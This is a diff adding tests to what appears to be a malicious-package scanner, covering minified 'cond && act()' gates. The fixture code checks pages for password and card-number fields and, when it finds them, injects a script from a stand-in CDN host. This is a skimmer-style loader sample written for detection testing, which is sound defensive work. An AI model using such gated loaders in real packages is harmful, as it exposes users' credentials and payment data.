@@ -614,3 +614,31 @@ describe('round 80: module resolution as the hiding place', () => {
     expect(ruleOf(r, 'js.exfil-flow')).toBeDefined();
   });
 });
+
+describe('minified gates: `cond && act()` as a statement is an `if`', () => {
+  it('a secret-page test written `sensitive() > 0 && add(url)` gates the loader', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'rum-mini', version: '1.0.0', main: 'index.js' }),
+      'index.js': [
+        "const F = ['input[type=password]', 'input[autocomplete=\"cc-number\"]'];",
+        'const sensitive = () => F.filter((f) => document.querySelector(f)).length;',
+        "function add(u) { const s = document.createElement('script'); s.src = u; document.head.appendChild(s); }",
+        "exports.init = () => { sensitive() > 0 && add('https://cdn.rum-mini.example/x.js'); };",
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.gated-remote-script')?.confidence).toBe(0.6);
+  });
+
+  it('`sensitive() || add(url)` loads where there are none: no gated-script finding', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'rum-mini', version: '1.0.0', main: 'index.js' }),
+      'index.js': [
+        "const F = ['input[type=password]'];",
+        'const sensitive = () => F.filter((f) => document.querySelector(f)).length;',
+        "function add(u) { const s = document.createElement('script'); s.src = u; document.head.appendChild(s); }",
+        "exports.init = () => { sensitive() || add('https://cdn.rum-mini.example/x.js'); };",
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.gated-remote-script')).toBeUndefined();
+  });
+});
